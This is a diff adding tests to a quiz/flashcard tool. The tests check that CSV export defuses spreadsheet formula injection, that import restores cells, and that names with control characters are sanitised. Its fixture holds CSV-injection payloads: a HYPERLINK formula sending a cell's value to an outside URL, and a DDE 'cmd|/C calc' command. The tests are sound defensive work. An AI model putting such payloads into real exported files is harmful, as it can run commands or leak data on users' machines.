@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import json
+import os
 import re
 import sqlite3
 import sys
@@ -732,3 +733,148 @@ def test_add_on_a_dumb_terminal_uses_numbered_lists(deck_copy: Path,
     assert r.exit_code == 0, r.output
     card = load_deck(deck_copy, cache=False).card("how-many-more")
     assert card is not None and card.source == "tass-jan19-borodavkin"
+
+
+FORMULAS = """\
+id: formulas
+title: Formulas
+cards:
+  - id: link
+    question: '=HYPERLINK("http://example.com/?"&A1, "Click")'
+    answer: '@SUM(A1:A2)'
+    accept: ['+1+1', plain]
+  - id: cmd
+    question: "-2+3+cmd|' /C calc'!A0"
+    answer: "'=quoted, not a formula"
+  - id: cold
+    question: How cold was it, in degrees?
+    answer: -5
+    tolerance: 0
+"""
+
+
+def exported_cells(deck: Path, *options: str) -> list[dict[str, str]]:
+    r = run("export", str(deck), "-f", "csv", *options)
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    return list(csv.DictReader(r.stdout.splitlines()))  # type: ignore[attr-defined]
+
+
+def test_export_makes_cells_a_spreadsheet_would_run_text_and_import_undoes_it(
+        tmp_path: Path) -> None:
+    """A deck author's '=HYPERLINK(...)' or '-2+3+cmd|...' in a CSV runs as
+    a formula when the file is opened in a spreadsheet: such a cell gets a
+    ' before it (OWASP's advice), a plain number such as -5 does not, and a
+    cell that really starts with a quote gets one more, so that quiz import
+    gives back every cell as it was."""
+    deck = tmp_path / "formulas.yaml"
+    deck.write_text(FORMULAS)
+    rows = exported_cells(deck)
+    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
+        ("'=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")", "'@SUM(A1:A2)", "'+1+1 | plain"),
+        ("'-2+3+cmd|' /C calc'!A0", "''=quoted, not a formula", ""),
+        ("How cold was it, in degrees?", "-5", "")]
+    table = tmp_path / "formulas.csv"
+    assert run("export", str(deck), "-o", str(table)).exit_code == 0  # type: ignore
+    back = tmp_path / "back.yaml"
+    r = run("import", str(table), "-o", str(back))
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    fields = ("id", "type", "question", "answer", "accept", "tolerance")
+    assert [[getattr(c, f) for f in fields] for c in load_deck(back).cards] == [
+        [getattr(c, f) for f in fields] for c in load_deck(deck).cards]
+
+
+def test_export_raw_cells_writes_them_as_they_are(tmp_path: Path) -> None:
+    deck = tmp_path / "formulas.yaml"
+    deck.write_text(FORMULAS)
+    rows = exported_cells(deck, "--raw-cells")
+    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
+        ('=HYPERLINK("http://example.com/?"&A1, "Click")', "@SUM(A1:A2)", "+1+1 | plain"),
+        ("-2+3+cmd|' /C calc'!A0", "'=quoted, not a formula", ""),
+        ("How cold was it, in degrees?", "-5", "")]
+
+
+def test_import_takes_the_formula_quote_off_only_in_quiz_own_layout(tmp_path: Path) -> None:
+    """quiz's own CSV (a header row naming question and answer) comes from
+    quiz export, which quotes formula cells; a two-column file or Anki's
+    export is read as written, so "'-able" there keeps its quote."""
+    ours = tmp_path / "ours.csv"
+    ours.write_text("question,answer\n'=1+1 in a formula?,'@2\n'Tis the season?,''-x\n")
+    assert run("import", str(ours), "-o", str(tmp_path / "ours.yaml")).exit_code == 0  # type: ignore
+    assert [(c.question, c.answer) for c in load_deck(tmp_path / "ours.yaml").cards] == [
+        ("=1+1 in a formula?", "@2"), ("'Tis the season?", "'-x")]
+    theirs = tmp_path / "theirs.csv"
+    theirs.write_text("'-able,a suffix: capable of\n'=x,'+y\n")
+    assert run("import", str(theirs), "-o", str(tmp_path / "theirs.yaml")).exit_code == 0  # type: ignore
+    assert [(c.question, c.answer) for c in load_deck(tmp_path / "theirs.yaml").cards] == [
+        ("'-able", "a suffix: capable of"), ("'=x", "'+y")]
+
+
+@pytest.mark.parametrize(("name", "title", "file"), [
+    ("na\udcefve", "Na\ufffdve", "nave.yaml"),  # a byte the system could not decode
+    ("na\x1bve", "Na Ve", "na-ve.yaml"),
+    ("caf\u00e9 \u6771\u4eac", "Caf\u00e9 \u6771\u4eac", "cafe.yaml"),
+])
+def test_new_makes_a_deck_title_of_any_name(quiz_home: Path, name: str, title: str,
+                                            file: str) -> None:
+    """A name with an undecodable byte crashed quiz new (exit 70), and one
+    with ESC wrote a deck that did not validate."""
+    r = run("new", name)
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    deck = load_deck(quiz_home / "decks" / file)
+    assert deck.title == title
+    assert run("validate", str(quiz_home / "decks" / file)).exit_code == 0  # type: ignore
+
+
+def test_new_and_import_make_a_typed_title_plain_text(quiz_home: Path, tmp_path: Path) -> None:
+    r = run("new", "colours", "--title", "\x1b[31mRed\x1b[0m and\u202e blue\n")
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    assert load_deck(quiz_home / "decks" / "colours.yaml").title == "[31mRed [0m and blue"
+    table = tmp_path / "cards.csv"
+    table.write_text("front,back\nQ?,A\n")
+    r = run("import", str(table), "--title", "\x07")  # nothing printable: the file's name
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    assert load_deck(quiz_home / "decks" / "cards.yaml").title == "cards"
+
+
+@pytest.mark.parametrize(("name", "deck_id", "title"), [
+    (os.fsdecode(b"caf\xc3\xa9.csv"), "cafe", "caf\u00e9"),
+    (os.fsdecode(b"e\x1bsc.csv"), "e-sc", "e sc"),
+    (os.fsdecode(b"b\xefad.csv"), "bad", "b\ufffdad"),  # not UTF-8: a surrogate escape
+])
+def test_import_of_a_file_with_any_name_makes_a_valid_deck(
+        quiz_home: Path, tmp_path: Path, name: str, deck_id: str, title: str) -> None:
+    table = tmp_path / name
+    table.write_text("front,back\nCapital of Kazakhstan?,Astana\n")
+    r = run("import", str(table))
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    deck = load_deck(quiz_home / "decks" / f"{deck_id}.yaml")
+    assert (deck.id, deck.title) == (deck_id, title)
+    assert deck.description == f"Imported from {title}.csv."
+
+
+def test_import_of_a_header_row_alone_says_so(tmp_path: Path) -> None:
+    """Found by tests/test_import_fuzz.py: quiz's own header with no rows
+    said 'the deck has no cards', unlike a front,back header alone."""
+    table, said = failed_import(tmp_path, "header.csv", "id,question,answer\n")
+    assert said == f"quiz: {table}: no cards in this file, only a header row\n"
+
+
+def test_import_of_a_tolerance_that_is_no_number_is_told_at_its_row(tmp_path: Path) -> None:
+    """Found by the fuzz: a tolerance of 'a' crashed the import (exit 70)."""
+    table, said = failed_import(tmp_path, "t.csv", "question,answer,type,tolerance\n"
+                                "How many?,5,number,a\nHow many more?,1e999,number,\n")
+    assert said.splitlines()[:2] == [
+        f"{table}:2: 'tolerance' must be a number of 0 or more",
+        f"{table}:3: the answer of a number card must be a number, like 4500 or 2.5"]
+
+
+def test_import_tells_a_source_problem_at_the_row_that_gave_it(tmp_path: Path) -> None:
+    """Found by the fuzz: a source's problem named no line of the table."""
+    table, said = failed_import(tmp_path, "s.csv", "question,answer,source,source_outlet,"
+                                "source_date,source_title\nQ?,A,s1,TASS,2022-01-19,Report\n"
+                                "Q2?,B,s2,TASS,,Report\nQ3?,C,s\x1b,TASS,2022-01-19,Report\n")
+    assert said.splitlines()[:2] == [
+        f"{table}:3: source 's2' has no 'date' (YYYY-MM-DD, or YYYY-MM when the day is "
+        "unknown)",
+        f"{table}:4: contains the control character U+001B ESCAPE; terminal control codes "
+        "are not allowed in deck text"]
